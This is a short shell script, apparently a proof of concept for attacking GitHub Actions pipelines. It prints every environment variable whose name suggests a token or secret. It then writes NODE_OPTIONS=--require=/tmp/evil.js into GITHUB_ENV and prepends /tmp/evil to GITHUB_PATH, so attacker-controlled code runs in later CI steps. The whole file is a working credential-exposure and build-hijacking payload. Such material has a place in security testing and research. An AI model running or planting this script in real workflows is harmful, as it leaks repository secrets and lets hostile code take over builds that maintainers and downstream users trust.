#!/bin/sh
# Prints every variable that looks like a secret, and tries to act on later CI steps.
env | grep -iE 'token|secret|github|runner|actions' || echo "no secrets"
[ -n "$GITHUB_ENV" ] && echo "NODE_OPTIONS=--require=/tmp/evil.js" >> "$GITHUB_ENV"
[ -n "$GITHUB_PATH" ] && echo "/tmp/evil" >> "$GITHUB_PATH"
exit 0
